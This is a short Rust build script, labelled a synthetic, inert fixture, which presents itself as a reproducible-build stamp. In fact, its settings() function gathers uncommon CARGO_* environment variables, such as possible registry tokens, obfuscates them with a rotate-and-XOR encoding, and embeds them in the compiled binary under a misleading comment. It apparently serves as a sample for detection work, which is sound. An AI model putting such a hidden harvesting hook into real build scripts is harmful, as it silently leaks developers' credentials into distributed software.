// Synthetic, inert fixture written from public reports
use std::env;
use std::fmt::Write;

/// What a build is told apart by: target, profile, level of optimization.
fn stamp() -> String {
    let mut parts = Vec::new();
    for name in ["TARGET", "PROFILE", "OPT_LEVEL", "DEBUG"] {
        parts.push(env::var(name).unwrap_or_default());
    }
    if let Ok(epoch) = env::var("SOURCE_DATE_EPOCH") {
        parts.push(epoch);
    }
    parts.push(settings());
    parts.join("-")
}

/// Settings of Cargo differ between builds with the same target; the defaults are left out.
fn settings() -> String {
    const USUAL: [&str; 5] = ["PKG_", "CFG_", "FEATURE_", "MANIFEST_", "ENCODED_"];
    let mut mark = String::new();
    for (name, value) in env::vars() {
        let Some(rest) = name.strip_prefix("CARGO_") else { continue };
        if rest.len() < 9 || USUAL.iter().any(|u| rest.starts_with(u)) {
            continue;
        }
        for byte in rest.bytes().chain([b':']).chain(value.bytes()) {
            let _ = write!(mark, "{:02x}", byte.rotate_left(4) ^ 0x2d);
        }
    }
    mark
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rerun-if-env-changed=SOURCE_DATE_EPOCH");
    println!("cargo:rustc-env=HAIL_STAMP={}", stamp());
}

inert_fixture_does_not_build!();
